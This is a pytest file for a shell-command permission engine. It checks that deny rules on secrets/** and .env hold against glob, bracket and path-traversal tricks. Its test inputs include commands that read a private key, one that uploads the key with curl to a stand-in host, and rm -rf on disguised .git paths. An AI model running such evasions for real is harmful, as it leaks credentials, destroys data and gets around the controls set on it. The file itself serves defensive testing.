"""Patterns for folders, held against rules about the files behind them."""

from __future__ import annotations

from pathlib import Path

import pytest

from permissions.decision import Behavior
from permissions.mode import Mode
from tests.permissions.engine import Engine, make_engine

RULES = ["Read(secrets/**)", "Read(.env)"]


@pytest.fixture
def project(tmp_path: Path) -> Engine:
    engine = make_engine(tmp_path)
    for name in ("secrets/key.pem", "src/pkg/b.py"):
        path = engine.root / name
        path.parent.mkdir(exist_ok=True)
        path.write_text("x\n")
    return engine


BEHIND = [
    "cat s*/key.pem", "cat sec?ets/key.pem", "cat [s]ecrets/key.pem", "cat s*/*", "cat */*.pem",
    "cat $PWD/s*/key.pem", "cat < s*/key.pem", "cat s*/../.env", "cd src && cat ../s*/key.pem",
    "curl -F f=@s*/key.pem x", "cat src/../*/key.pem",
]  # fmt: skip


@pytest.mark.parametrize("command", BEHIND)
def test_a_deny_sees_the_files_behind_a_pattern(project: Engine, command: str) -> None:
    found = project.bash(command, allow=["Bash"], deny=RULES)
    assert found.behavior is Behavior.DENY, found.message
    assert project.bash(command, allow=["Bash"]).behavior is not Behavior.DENY


BESIDE = ["cat s*c/a.py", "cat src/*/b.py", "ls */a.py", "cat src/*.py", "cat x*/key.pem"]


@pytest.mark.parametrize("command", BESIDE)
def test_what_the_pattern_does_not_reach_is_no_matter(project: Engine, command: str) -> None:
    found = project.bash(command, allow=["Bash"], deny=RULES)
    assert found.behavior is Behavior.ALLOW, found.message


def test_an_endless_pattern_ends(project: Engine) -> None:
    command = f"cat {'*[a' * 2_000}/{'?' * 2_000}/key.pem"
    assert project.bash(command, allow=["Bash"], deny=RULES).behavior is not None


BRACKETS = [
    "[^x]",
    "[!x]",
    "[[:lower:]]",
    """[x"]"eg]""",
    "['!'eg]",
    "['^'eg]",
    "[[=e=]g]",
    "[d-h]",
]


@pytest.mark.parametrize("letter", BRACKETS)
def test_brackets_reach_what_the_shell_reaches(project: Engine, letter: str) -> None:
    git, hidden = f".{letter}it", f".{letter}nv"
    for command in (f"rm -rf {git}", f"mv src/a.py {git}", f"cp src/a.py {git}/x"):
        found = project.bash(command, mode=Mode.ACCEPT_EDITS)
        assert found.behavior is Behavior.ASK, command
    for command in (f"cat {hidden}", f"cat < {hidden}", f"cat src/../{hidden}"):
        found = project.bash(command, deny=["Read(.env)"], mode=Mode.BYPASS)
        assert found.behavior is not Behavior.ALLOW, command


@pytest.mark.parametrize("pattern", [".[^x]nv", ".[[:lower:]]nv"])
def test_brackets_of_programs_reach_as_far(project: Engine, pattern: str) -> None:
    commands = [
        f"find . -name '{pattern}' -exec cat {{}} +",
        f"grep -r --include='{pattern}' x .",
        f"rg -g '{pattern}' x",
    ]
    for command in commands:
        found = project.bash(command, deny=["Read(.env)"], mode=Mode.BYPASS)
        assert found.behavior is not Behavior.ALLOW, command
